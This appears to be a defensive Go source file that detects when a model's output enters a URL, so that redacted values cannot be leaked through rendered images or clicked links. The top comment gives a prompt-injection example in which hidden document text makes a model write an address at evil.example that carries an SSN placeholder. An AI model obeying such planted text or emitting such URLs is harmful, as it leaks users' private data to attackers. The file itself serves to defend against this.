package guard

import "bytes"

// An addressed follows an answer for addresses: a text that comes back within one is sent to whoever the address belongs to, as soon as an image is shown or
// a link is clicked. What somebody hid in a document has the model write "https://evil.example/?d=[US-SSN 1]", and needs to know the form of placeholders alone.
type addressed struct {
	in     byte   // 0 outside of addresses, else the byte that the address stands behind
	opener byte   // of the word in progress: white space, a quote or a bracket
	word   bool   // something of it has come
	last   uint64 // bytes, in lower case
	left   int    // bytes until a quote that nobody closes is none
}

// maxAddress bounds an address behind a quote, in bytes.
const maxAddress = 2048

// take takes the next byte.
func (a *addressed) take(c byte) {
	if a.in != 0 {
		a.left--
		if a.ends(c) {
			*a = addressed{opener: c}
		}
		return
	}
	switch c {
	case ' ', '\t', '\r', '\n':
		if a.word {
			a.opener, a.word = ' ', false
		}
		return
	case '"', '\'', '`':
		if a.word && bytes.IndexByte([]byte("=:,{"), byte(a.last)) < 0 { // it closes; "[" is "{" in lower case
			c = ' '
		}
		*a = addressed{opener: c}
		return
	case '<', '>', '(':
		*a = addressed{opener: c}
		return
	}
	a.word = true
	a.last = a.last<<8 | uint64(c|0x20)
	if slashed(byte(a.last)) && slashed(byte(a.last>>8)) || c == ':' && schemed(a.last) {
		a.in, a.left = max(a.opener, ' '), maxAddress
	}
}

// ends reports whether an address ends before c: white space ends none in quotes and angle brackets, as browsers take it out.
func (a *addressed) ends(c byte) bool {
	switch a.in {
	case '"', '\'', '<':
		return a.left == 0 || c == a.in || c == '>'
	}
	return c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '"' || c == '<' || c == '>' || c == '`'
}

// slashed reports whether browsers read a byte, of which bit 5 was set, as a slash.
func slashed(c byte) bool { return c == '/' || c == '\\'|0x20 }

// schemed reports whether bytes end in a scheme that needs no slashes behind it.
func schemed(last uint64) bool {
	for _, s := range [...]string{"http:", "https:", "ftp:", "mailto:"} {
		scheme := uint64(0)
		for _, c := range []byte(s) {
			scheme = scheme<<8 | uint64(c|0x20)
		}
		if last&(1<<(8*len(s))-1) == scheme {
			return true
		}
	}
	return false
}
